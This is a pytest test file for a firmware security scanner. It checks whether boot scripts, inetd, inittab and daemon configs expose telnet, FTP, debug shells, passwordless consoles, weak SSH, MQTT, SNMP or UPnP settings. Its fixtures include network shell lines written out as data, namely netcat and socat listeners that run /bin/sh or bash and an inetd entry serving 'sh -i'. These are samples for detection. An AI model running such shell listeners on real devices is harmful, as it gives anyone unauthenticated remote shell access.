"""The fw.services.* checks beyond telnet, run through the runner on facts collected from real trees: which
daemon, console, SSH, web, MQTT, SNMP and UPnP settings are flagged, where, and how severely; and which
look-alikes (commented, stopped, disabled, loopback-only, documentation) are not."""

from __future__ import annotations

from pathlib import Path

import pytest
import serviceconfigs as cfg
from fwimages import write_tree

import iotcop.checks.registry  # noqa: F401 - first: building the registry imports every check module
from iotcop.checks.fw import services as checks
from iotcop.checks.registry import spec_of
from iotcop.firmware.filesystem import FileSystem
from iotcop.firmware.serviceconf import ServiceConfig, collect_service_config
from iotcop.firmware.services import BootServices, collect_boot_services
from iotcop.model import CheckRun, Finding, RunStatus, Severity
from iotcop.runner import run_checks

ALL = (checks.telnet_enabled, checks.ftp_enabled, checks.tftp_enabled, checks.rlogin_enabled, checks.debug_daemon,
       checks.serial_console, checks.ssh_password_login, checks.http_admin_plaintext, checks.mqtt_anonymous,
       checks.mqtt_plaintext, checks.snmp_default_community, checks.upnp_igd_enabled, checks.listens_all_interfaces)
WANTS = "/etc/systemd/system/multi-user.target.wants/"
Flagged = set[tuple[str, str, int | None, Severity]]


def run(root: Path, files: dict[str, str], links: dict[str, str] | None = None,
        only: tuple[object, ...] = ALL) -> tuple[dict[str, CheckRun], list[Finding]]:
    fs = FileSystem.scan(write_tree(root, files=files, links=links))
    boot = collect_boot_services(fs)
    result = run_checks([spec_of(c) for c in only], {BootServices: boot,  # type: ignore[arg-type]
                                                     ServiceConfig: collect_service_config(fs, boot)}, {})
    return {r.check_id.rsplit(".", 1)[1]: r for r in result.runs}, list(result.findings)


def flagged(findings: list[Finding]) -> Flagged:
    return {(f.check_id.rsplit(".", 1)[1], f.location.path, f.location.line, f.severity) for f in findings}


def line_of(text: str, snippet: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if snippet in line)


# --- daemons ---------------------------------------------------------------------------------------------------

DAEMONS_RCS = """#!/bin/sh
# ftpd and tftpd for the factory: "tcpsvd -vE 0.0.0.0 21 ftpd" (kept in this comment)
tcpsvd -vE 0.0.0.0 21 ftpd -w /srv &
udpsvd -vE 0.0.0.0 69 tftpd /srv/tftp &
dnsmasq --enable-tftp --tftp-root=/srv/tftp
start-stop-daemon -S -b -x /usr/sbin/adbd
nc -ll -p 4444 -e /bin/sh &
busybox nc -l -p 1234 -e sh &
socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash,pty,stderr &
busybox telnetd -p 2323 -l /bin/sh
"""
DAEMONS_LOOKALIKES = """#!/bin/sh
killall vsftpd
start-stop-daemon -K -x /usr/sbin/vsftpd
echo "starting ftpd" > /dev/console
tftp -g -r firmware.bin 192.168.1.2
dnsmasq --port=53
ftp -n 192.168.1.2
nc -z 192.168.1.1 80
nc 192.168.1.2 9000 -e /bin/sh
nc -l -p 8080 > /tmp/upload
rlogin -l root 192.168.1.2
[ -x /usr/bin/gdbserver ] && echo "gdbserver available"
"""
INETD = """# /etc/inetd.conf
#ftp\tstream\ttcp\tnowait\troot\t/usr/sbin/ftpd\tftpd -w
login\tstream\ttcp\tnowait\troot\t/usr/sbin/in.rlogind\tin.rlogind
shell\tstream\ttcp\tnowait\troot\t/usr/sbin/tcpd\tin.rshd -L
2323\tstream\ttcp\tnowait\troot\t/bin/sh\tsh -i
"""


def test_daemons_started(tmp_path: Path) -> None:
    runs, findings = run(tmp_path, {"/etc/init.d/rcS": DAEMONS_RCS, "/etc/inetd.conf": INETD},
                         only=(checks.telnet_enabled, checks.ftp_enabled, checks.tftp_enabled, checks.rlogin_enabled,
                               checks.debug_daemon))
    rcs = "/etc/init.d/rcS"
    assert flagged(findings) == {
        ("ftp-enabled", rcs, 3, Severity.MEDIUM),
        ("tftp-enabled", rcs, 4, Severity.MEDIUM), ("tftp-enabled", rcs, 5, Severity.MEDIUM),
        ("debug-daemon", rcs, 6, Severity.HIGH),
        ("debug-daemon", rcs, 7, Severity.CRITICAL), ("debug-daemon", rcs, 8, Severity.CRITICAL),
        ("debug-daemon", rcs, 9, Severity.CRITICAL), ("debug-daemon", "/etc/inetd.conf", 5, Severity.CRITICAL),
        ("telnet-enabled", rcs, 10, Severity.HIGH),  # telnetd on a non-standard port is still telnet
        ("rlogin-enabled", "/etc/inetd.conf", 3, Severity.HIGH),
        ("rlogin-enabled", "/etc/inetd.conf", 4, Severity.HIGH),
    }
    ftp = next(f for f in findings if f.check_id == "fw.services.ftp-enabled")
    assert ftp.message == ("ftpd is started at boot by /etc/init.d/rcS (init script), accepting connections on "
                           "0.0.0.0:21.")
    nc = next(f for f in findings if f.location.line == 7)
    assert nc.message.endswith("It is a network shell: nc listens and runs /bin/sh for whoever connects, with no "
                               "password.")
    assert all(r.status is RunStatus.COMPLETED for r in runs.values())


def test_daemon_look_alikes_and_present_only(tmp_path: Path) -> None:
    xinetd_tftp = "service tftp\n{\n\tserver = /usr/sbin/in.tftpd\n\tdisable = yes\n}\n"
    _, findings = run(tmp_path, {
        "/etc/init.d/rcS": DAEMONS_LOOKALIKES,
        "/etc/inetd.conf": "#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n",
        "/etc/xinetd.conf": "includedir /etc/xinetd.d\n", "/etc/xinetd.d/tftp": xinetd_tftp,
        "/usr/sbin/vsftpd": "\x7fELF", "/usr/bin/gdbserver": "\x7fELF",
        "/usr/share/doc/adbd/README": "adbd docs", "/usr/share/doc/gdbserver/gdbserver": "not a program",
    }, links={"/usr/sbin/tftpd": "../../bin/busybox", "/usr/sbin/telnetd": "../../bin/busybox"},
        only=(checks.telnet_enabled, checks.ftp_enabled, checks.tftp_enabled, checks.rlogin_enabled,
              checks.debug_daemon))
    assert flagged(findings) == {
        ("ftp-enabled", "/usr/sbin/vsftpd", None, Severity.INFO),
        ("tftp-enabled", "/usr/sbin/tftpd", None, Severity.INFO),
        ("debug-daemon", "/usr/bin/gdbserver", None, Severity.INFO),
        ("telnet-enabled", "/usr/sbin/telnetd", None, Severity.INFO),
    }
    assert {f.message for f in findings if f.check_id.endswith("tftp-enabled")} == {
        "/usr/sbin/tftpd is present but not started at boot: no inittab line, init script, inetd/xinetd entry, "
        "cron job or systemd unit starts it."}


def test_daemon_checks_without_boot_configuration(tmp_path: Path) -> None:
    runs, findings = run(tmp_path, {"/usr/sbin/ftpd": "\x7fELF"}, only=(checks.ftp_enabled, checks.debug_daemon))
    assert findings == [] and {r.status for r in runs.values()} == {RunStatus.INCONCLUSIVE}


# --- consoles --------------------------------------------------------------------------------------------------

CONSOLE_INITTAB = """::sysinit:/etc/init.d/rcS
::sysinit:/bin/sh /etc/rc.local
::askfirst:-/bin/sh
ttyS0::respawn:/bin/sh
ttyS1::respawn:/sbin/getty -n -l /bin/sh -L ttyS1 115200 vt100
ttyAMA0::respawn:/sbin/getty -L ttyAMA0 115200 vt100
tty1::respawn:/bin/login -f root
::respawn:/bin/sh -c "while true; do /usr/bin/watchdogd; sleep 5; done"
#ttyS2::respawn:/bin/sh
::shutdown:/bin/sh
"""


def test_serial_console(tmp_path: Path) -> None:
    _, findings = run(tmp_path, {"/etc/inittab": CONSOLE_INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n"},
                      only=(checks.serial_console,))
    assert flagged(findings) == {("serial-console", "/etc/inittab", n, Severity.HIGH) for n in (3, 4, 5, 7)}
    messages = sorted(f.message for f in findings)
    assert messages[0] == ("The serial console console gives a shell without a password: runs the shell sh directly: "
                           "whoever has the terminal gets it without a password (/etc/inittab:3).")
    assert any("ttyS1" in m and "getty runs /bin/sh instead of login" in m for m in messages)
    assert any(m.startswith("The terminal tty1 ") and "'login -f root'" in m for m in messages)


def test_buildroot_getty_with_login_is_clean(tmp_path: Path) -> None:
    runs, findings = run(tmp_path, {"/etc/inittab": cfg.BUILDROOT_INITTAB, "/etc/init.d/rcS": cfg.BUILDROOT_RCS},
                         links={"/sbin/init": "../bin/busybox"}, only=(checks.serial_console,))
    assert (runs["serial-console"].status, findings) == (RunStatus.COMPLETED, [])


def test_busybox_init_without_inittab(tmp_path: Path) -> None:
    _, findings = run(tmp_path, {"/etc/init.d/rcS": "#!/bin/sh\nmount -a\n"}, links={"/sbin/init": "../bin/busybox"},
                      only=(checks.serial_console,))
    assert flagged(findings) == {("serial-console", "/sbin/init", None, Severity.HIGH)}


@pytest.mark.parametrize(("ttylogin", "expected"), [
    ("0", {("serial-console", "/usr/libexec/login.sh", 3, Severity.HIGH)}), ("1", set())])
def test_openwrt_console(tmp_path: Path, ttylogin: str, expected: Flagged) -> None:
    _, findings = run(tmp_path, {"/etc/inittab": cfg.OPENWRT_INITTAB, "/usr/libexec/login.sh": cfg.OPENWRT_LOGIN_SH,
                                 "/etc/config/system": cfg.OPENWRT_SYSTEM_CONFIG.replace("'0'", f"'{ttylogin}'", 1)},
                      only=(checks.serial_console,))
    assert flagged(findings) == expected


def test_systemd_serial_getty(tmp_path: Path) -> None:
    unit = "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud 115200,57600,38400,9600 %I $TERM\n"
    link = {"/etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service":
            "/lib/systemd/system/serial-getty@.service"}
    _, clean = run(tmp_path / "a", {"/lib/systemd/system/serial-getty@.service": unit}, link,
                   only=(checks.serial_console,))
    autologin = unit.replace("-/sbin/agetty", "-/sbin/agetty --autologin root")
    _, findings = run(tmp_path / "b", {"/lib/systemd/system/serial-getty@.service": autologin}, link,
                      only=(checks.serial_console,))
    assert clean == [] and flagged(findings) == {
        ("serial-console", "/lib/systemd/system/serial-getty@.service", 2, Severity.HIGH)}
    assert "ttyS0" in findings[0].message and "logs 'root' in automatically" in findings[0].message


# --- SSH ------------------------------------------------------------------------------------------------------


def debian_ssh(sshd_config: str) -> tuple[dict[str, str], dict[str, str]]:
    return ({"/etc/ssh/sshd_config": sshd_config, "/lib/systemd/system/ssh.service": cfg.DEBIAN_SSH_SERVICE},
            {WANTS + "ssh.service": "/lib/systemd/system/ssh.service"})


SSH_SERVICE = "/lib/systemd/system/ssh.service"
SSHD = "/etc/ssh/sshd_config"
MATCH = "Match Address 192.168.0.0/16\n\tPasswordAuthentication yes\n#"


@pytest.mark.parametrize(("edit", "expected"), [
    ({}, {(SSH_SERVICE, line_of(cfg.DEBIAN_SSH_SERVICE, "ExecStart="), Severity.LOW)}),  # OpenSSH's defaults
    ({"#PermitRootLogin prohibit-password": "PermitRootLogin yes"},
     {(SSHD, line_of(cfg.DEBIAN_SSHD_CONFIG, "#PermitRootLogin"), Severity.MEDIUM)}),
    ({"#PermitEmptyPasswords no": "PermitEmptyPasswords yes"},
     {(SSHD, line_of(cfg.DEBIAN_SSHD_CONFIG, "#PermitEmptyPasswords"), Severity.HIGH)}),
    ({"#PasswordAuthentication yes": "PasswordAuthentication no"}, set()),
    ({"#PasswordAuthentication yes": "PasswordAuthentication no", "#Match User anoncvs": MATCH},
     {(SSHD, line_of(cfg.DEBIAN_SSHD_CONFIG, "#Match User anoncvs") + 1, Severity.LOW)}),
])
def test_openssh(tmp_path: Path, edit: dict[str, str], expected: set[tuple[str, int, Severity]]) -> None:
    text = cfg.DEBIAN_SSHD_CONFIG
    for old, new in edit.items():
        assert old in text
        text = text.replace(old, new)
    _, findings = run(tmp_path, *debian_ssh(text), only=(checks.ssh_password_login,))
    assert {(f.location.path, f.location.line, f.severity) for f in findings} == expected


def test_openwrt_dropbear(tmp_path: Path) -> None:
    files = {"/etc/init.d/dropbear": cfg.OPENWRT_DROPBEAR_INIT, "/etc/config/dropbear": cfg.OPENWRT_DROPBEAR_CONFIG}
    _, findings = run(tmp_path / "a", files, {"/etc/rc.d/S19dropbear": "../init.d/dropbear"},
                      only=(checks.ssh_password_login,))
    assert flagged(findings) == {("ssh-password-login", "/etc/config/dropbear", 5, Severity.MEDIUM)}
    assert findings[0].message == ("dropbear (started at boot by /etc/init.d/dropbear:21): root can log in with a "
                                   "password.")
    _, present = run(tmp_path / "b", {**files, "/usr/sbin/dropbear": "\x7fELF", "/etc/init.d/rcS": "#!/bin/sh\n"},
                     only=(checks.ssh_password_login,))  # no /etc/rc.d link: installed, never started
    assert flagged(present) == {("ssh-password-login", "/etc/config/dropbear", 5, Severity.INFO)}
    assert present[0].message.endswith("It is present but not started at boot.")


@pytest.mark.parametrize(("default_args", "expected"), [
    ("-s -g", set()),
    ("-g", {Severity.LOW}),
    ("-B", {Severity.HIGH}),
    ("", {Severity.MEDIUM}),
])
def test_buildroot_dropbear(tmp_path: Path, default_args: str, expected: set[Severity]) -> None:
    _, findings = run(tmp_path, {"/etc/inittab": cfg.BUILDROOT_INITTAB, "/etc/init.d/rcS": cfg.BUILDROOT_RCS,
                                 "/etc/init.d/S50dropbear": cfg.BUILDROOT_S50DROPBEAR,
                                 "/etc/default/dropbear": f'DROPBEAR_ARGS="{default_args}"\n'},
                      only=(checks.ssh_password_login,))
    assert {f.severity for f in findings} == expected
    assert {f.location.path for f in findings} <= {"/etc/init.d/S50dropbear"}


def test_no_ssh_server_is_not_applicable(tmp_path: Path) -> None:
    runs, _ = run(tmp_path, {"/etc/init.d/rcS": "#!/bin/sh\n"}, only=(checks.ssh_password_login,
                                                                     checks.http_admin_plaintext,
                                                                     checks.mqtt_anonymous, checks.mqtt_plaintext,
                                                                     checks.snmp_default_community,
                                                                     checks.upnp_igd_enabled))
    assert {r.status for r in runs.values()} == {RunStatus.NOT_APPLICABLE}
    assert runs["ssh-password-login"].reason == "no SSH server (OpenSSH, dropbear) in the image"


# --- web --------------------------------------------------------------------------------------------------------


def lighttpd(**enabled: str) -> tuple[dict[str, str], dict[str, str]]:
    return ({"/etc/lighttpd/lighttpd.conf": cfg.DEBIAN_LIGHTTPD_CONF,
             "/lib/systemd/system/lighttpd.service": cfg.DEBIAN_LIGHTTPD_SERVICE,
             **{f"/etc/lighttpd/conf-enabled/{k}.conf": v for k, v in enabled.items()}},
            {WANTS + "lighttpd.service": "/lib/systemd/system/lighttpd.service"})


def uhttpd(config: str) -> tuple[dict[str, str], dict[str, str]]:
    return ({"/etc/init.d/uhttpd": cfg.OPENWRT_UHTTPD_INIT, "/etc/config/uhttpd": config},
            {"/etc/rc.d/S50uhttpd": "../init.d/uhttpd"})


NO_REDIRECT = cfg.OPENWRT_UHTTPD_CONFIG.replace("option redirect_https\t1", "option redirect_https\t0")
HTTP_ONLY = "config uhttpd main\n\tlist listen_http 0.0.0.0:80\n\tlist listen_https ''\n"
CONF = "/etc/lighttpd/lighttpd.conf"


@pytest.mark.parametrize(("tree", "expected"), [
    (lighttpd(), {(CONF, 14, Severity.MEDIUM)}),
    (lighttpd(**{"10-ssl": cfg.DEBIAN_LIGHTTPD_SSL}), {(CONF, 14, Severity.LOW)}),
    (lighttpd(**{"10-ssl": cfg.DEBIAN_LIGHTTPD_SSL, "20-redirect": cfg.LIGHTTPD_REDIRECT}), set()),
    (uhttpd(cfg.OPENWRT_UHTTPD_CONFIG), set()),
    (uhttpd(NO_REDIRECT), {("/etc/config/uhttpd", 5, Severity.LOW)}),
    (uhttpd(HTTP_ONLY), {("/etc/config/uhttpd", 2, Severity.MEDIUM)}),
    (({"/etc/init.d/rcS": "#!/bin/sh\nhttpd -p 80 -h /www\n"}, {}), {("/etc/init.d/rcS", 2, Severity.MEDIUM)}),
    (({"/etc/init.d/rcS": "#!/bin/sh\nhttpd -p 127.0.0.1:8080 -h /www\n"}, {}), set()),
    (({"/etc/init.d/rcS": "#!/bin/sh\n# httpd -p 80\nkillall httpd\n", "/usr/sbin/httpd": "\x7fELF"}, {}),
     {("/usr/sbin/httpd", None, Severity.INFO)}),
])
def test_http_admin_plaintext(tmp_path: Path, tree: tuple[dict[str, str], dict[str, str]],
                              expected: set[tuple[str, int | None, Severity]]) -> None:
    runs, findings = run(tmp_path, *tree, only=(checks.http_admin_plaintext,))
    assert {(f.location.path, f.location.line, f.severity) for f in findings} == expected
    assert runs["http-admin-plaintext"].status is RunStatus.COMPLETED


def test_http_message(tmp_path: Path) -> None:
    _, [finding] = run(tmp_path, *uhttpd(NO_REDIRECT), only=(checks.http_admin_plaintext,))
    assert finding.message == ("uhttpd (started at boot by /etc/init.d/uhttpd:22) serves plain HTTP on 0.0.0.0:80 "
                               "(/etc/config/uhttpd:5), [::]:80 (/etc/config/uhttpd:6); HTTPS is offered on "
                               "0.0.0.0:443, [::]:443 but plain HTTP is not redirected to it.")


# --- MQTT -------------------------------------------------------------------------------------------------------


def mosquitto(local: str | None, version: bool = True) -> tuple[dict[str, str], dict[str, str]]:
    files = {"/etc/mosquitto/mosquitto.conf": cfg.DEBIAN_MOSQUITTO_CONF,
             "/lib/systemd/system/mosquitto.service": cfg.DEBIAN_MOSQUITTO_SERVICE}
    files |= {"/etc/mosquitto/conf.d/local.conf": local} if local is not None else {}
    files |= {"/var/lib/dpkg/status": cfg.DPKG_STATUS_MOSQUITTO} if version else {}
    return files, {WANTS + "mosquitto.service": "/lib/systemd/system/mosquitto.service"}


LOCAL = "/etc/mosquitto/conf.d/local.conf"
MQTT_SERVICE = "/lib/systemd/system/mosquitto.service"
MQTT_START = line_of(cfg.DEBIAN_MOSQUITTO_SERVICE, "ExecStart=")


@pytest.mark.parametrize(("tree", "expected"), [
    (mosquitto(None), set()),  # 2.0 with no listener: loopback only
    (mosquitto(None, version=False), {("mqtt-anonymous", MQTT_SERVICE, MQTT_START, Severity.LOW),
                                      ("mqtt-plaintext", MQTT_SERVICE, MQTT_START, Severity.LOW)}),
    (mosquitto("listener 1883\nallow_anonymous true\n"),
     {("mqtt-anonymous", LOCAL, 2, Severity.HIGH), ("mqtt-plaintext", LOCAL, 1, Severity.MEDIUM)}),
    (mosquitto("listener 1883\nallow_anonymous false\npassword_file /etc/mosquitto/passwd\n"),
     {("mqtt-plaintext", LOCAL, 1, Severity.MEDIUM)}),
    (mosquitto("listener 1883 127.0.0.1\nallow_anonymous true\nlistener 8883\ncertfile /etc/mosquitto/server.crt\n"
               "keyfile /etc/mosquitto/server.key\npassword_file /etc/mosquitto/passwd\n"),
     {("mqtt-anonymous", LOCAL, 2, Severity.HIGH)}),  # without per_listener_settings allow_anonymous is global
    (mosquitto("per_listener_settings true\nlistener 1883 127.0.0.1\nallow_anonymous true\nlistener 8883\n"
               "certfile /etc/mosquitto/server.crt\npassword_file /etc/mosquitto/passwd\n"), set()),
    (mosquitto("listener 8883\ncertfile /etc/mosquitto/server.crt\n"), set()),  # 2.0: anonymous refused by default
])
def test_mqtt(tmp_path: Path, tree: tuple[dict[str, str], dict[str, str]], expected: Flagged) -> None:
    _, findings = run(tmp_path, *tree, only=(checks.mqtt_anonymous, checks.mqtt_plaintext))
    assert flagged(findings) == expected


# --- SNMP and UPnP ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("tree", "expected"), [
    (({"/etc/init.d/snmpd": cfg.OPENWRT_SNMPD_INIT, "/etc/config/snmpd": cfg.OPENWRT_SNMPD_CONFIG},
      {"/etc/rc.d/S50snmpd": "../init.d/snmpd"}),
     {("/etc/config/snmpd", 7, Severity.MEDIUM), ("/etc/config/snmpd", 12, Severity.INFO)}),
    (({"/etc/init.d/S59snmpd": "#!/bin/sh\nsnmpd -Lsd\n", "/etc/snmp/snmpd.conf": cfg.DEBIAN_SNMPD_CONF}, {}),
     {("/etc/snmp/snmpd.conf", line_of(cfg.DEBIAN_SNMPD_CONF, "rocommunity  public"), Severity.INFO),
      ("/etc/snmp/snmpd.conf", line_of(cfg.DEBIAN_SNMPD_CONF, "rocommunity6 public"), Severity.INFO)}),
    (({"/etc/init.d/S59snmpd": "#!/bin/sh\nsnmpd -c /etc/snmpd.conf\n",
       "/etc/snmpd.conf": "rwcommunity private\nrocommunity Xq7-r2Lm0v default\n#rocommunity public\n"}, {}),
     {("/etc/snmpd.conf", 1, Severity.HIGH)}),
    (({"/etc/init.d/S59snmpd": "#!/bin/sh\nsnmpd\n", "/etc/snmp/snmpd.conf": "createUser admin SHA pw AES\n"
       "rwuser admin priv\n"}, {}), set()),
    (({"/etc/init.d/S60mini_snmpd": "#!/bin/sh\nmini_snmpd -n -i br-lan\n"}, {}),
     {("/etc/init.d/S60mini_snmpd", 2, Severity.MEDIUM)}),
])
def test_snmp_default_community(tmp_path: Path, tree: tuple[dict[str, str], dict[str, str]],
                                expected: set[tuple[str, int, Severity]]) -> None:
    _, findings = run(tmp_path, *tree, only=(checks.snmp_default_community,))
    assert {(f.location.path, f.location.line, f.severity) for f in findings} == expected


def upnp(config: str) -> tuple[dict[str, str], dict[str, str]]:
    return ({"/etc/init.d/miniupnpd": cfg.OPENWRT_MINIUPNPD_INIT, "/etc/config/upnpd": config,
             "/usr/sbin/miniupnpd": "\x7fELF"}, {"/etc/rc.d/S95miniupnpd": "../init.d/miniupnpd"})


ENABLED = cfg.OPENWRT_UPNPD_CONFIG.replace("option enabled                    '0'", "option enabled '1'")
SWITCH = line_of(cfg.OPENWRT_UPNPD_CONFIG, "option enabled ")


@pytest.mark.parametrize(("tree", "expected"), [
    (upnp(cfg.OPENWRT_UPNPD_CONFIG), {("/etc/config/upnpd", SWITCH, Severity.INFO)}),  # shipped disabled
    (upnp(ENABLED), {("/etc/config/upnpd", SWITCH, Severity.MEDIUM)}),
    (upnp(ENABLED.replace("mapping  '0'", "mapping  '1'")), {("/etc/config/upnpd", SWITCH, Severity.HIGH)}),
    (upnp(ENABLED.replace("'all'", "'pcp+nat-pmp'")), set()),  # NAT-PMP/PCP only, no IGD
    (({"/etc/init.d/S80upnp": "#!/bin/sh\nminiupnpd -f /etc/miniupnpd.conf\n",
       "/etc/miniupnpd.conf": "ext_ifname=eth1\nlistening_ip=br0\nenable_upnp=no\nenable_natpmp=yes\n"}, {}), set()),
])
def test_upnp_igd_enabled(tmp_path: Path, tree: tuple[dict[str, str], dict[str, str]],
                          expected: set[tuple[str, int, Severity]]) -> None:
    _, findings = run(tmp_path, *tree, only=(checks.upnp_igd_enabled,))
    assert {(f.location.path, f.location.line, f.severity) for f in findings} == expected


# --- listening on all interfaces, and a whole OpenWrt image -----------------------------------------------------


def test_listens_all_interfaces(tmp_path: Path) -> None:
    files, links = debian_ssh(cfg.DEBIAN_SSHD_CONFIG)
    files |= {"/etc/inetd.conf": "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n"
                                 "127.0.0.1:ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n",
              "/etc/init.d/rcS": "#!/bin/sh\nhttpd -p 127.0.0.1:80\ndropbear -p 192.168.1.1:22\n"}
    _, findings = run(tmp_path, files, links, only=(checks.listens_all_interfaces,))
    start = line_of(cfg.DEBIAN_SSH_SERVICE, "ExecStart=")
    assert flagged(findings) == {("listens-all-interfaces", SSH_SERVICE, start, Severity.INFO),
                                 ("listens-all-interfaces", "/etc/inetd.conf", 1, Severity.INFO)}
    assert sorted(f.message for f in findings) == [
        "openssh listens on all interfaces (tcp 0.0.0.0:22).", "openssh listens on all interfaces (tcp [::]:22).",
        "telnetd listens on all interfaces (tcp *:23)."]


def test_an_openwrt_image(tmp_path: Path) -> None:
    """OpenWrt's defaults as shipped: dropbear with root passwords, uhttpd redirecting to HTTPS, miniupnpd
    installed but disabled, and the console shell of login.sh (ttylogin '0')."""
    files = {"/etc/inittab": cfg.OPENWRT_INITTAB, "/usr/libexec/login.sh": cfg.OPENWRT_LOGIN_SH,
             "/etc/config/system": cfg.OPENWRT_SYSTEM_CONFIG,
             "/etc/init.d/dropbear": cfg.OPENWRT_DROPBEAR_INIT, "/etc/config/dropbear": cfg.OPENWRT_DROPBEAR_CONFIG,
             "/etc/init.d/uhttpd": cfg.OPENWRT_UHTTPD_INIT, "/etc/config/uhttpd": cfg.OPENWRT_UHTTPD_CONFIG,
             "/etc/init.d/miniupnpd": cfg.OPENWRT_MINIUPNPD_INIT, "/etc/config/upnpd": cfg.OPENWRT_UPNPD_CONFIG,
             "/etc/crontabs/root": "# empty\n"}
    links = {"/etc/rc.d/S19dropbear": "../init.d/dropbear", "/etc/rc.d/S50uhttpd": "../init.d/uhttpd",
             "/etc/rc.d/S95miniupnpd": "../init.d/miniupnpd", "/usr/sbin/telnetd": "../../bin/busybox"}
    runs, findings = run(tmp_path, files, links)
    assert flagged(findings) == {
        ("telnet-enabled", "/usr/sbin/telnetd", None, Severity.INFO),
        ("serial-console", "/usr/libexec/login.sh", 3, Severity.HIGH),
        ("ssh-password-login", "/etc/config/dropbear", 5, Severity.MEDIUM),
        ("upnp-igd-enabled", "/etc/config/upnpd", SWITCH, Severity.INFO),
        ("listens-all-interfaces", "/etc/config/dropbear", 6, Severity.INFO),
        ("listens-all-interfaces", "/etc/config/uhttpd", 5, Severity.INFO),
        ("listens-all-interfaces", "/etc/config/uhttpd", 6, Severity.INFO),
        ("listens-all-interfaces", "/etc/config/uhttpd", 9, Severity.INFO),
        ("listens-all-interfaces", "/etc/config/uhttpd", 10, Severity.INFO),
    }
    assert {k: r.status for k, r in runs.items() if r.status is not RunStatus.COMPLETED} == {
        "mqtt-anonymous": RunStatus.NOT_APPLICABLE, "mqtt-plaintext": RunStatus.NOT_APPLICABLE,
        "snmp-default-community": RunStatus.NOT_APPLICABLE}
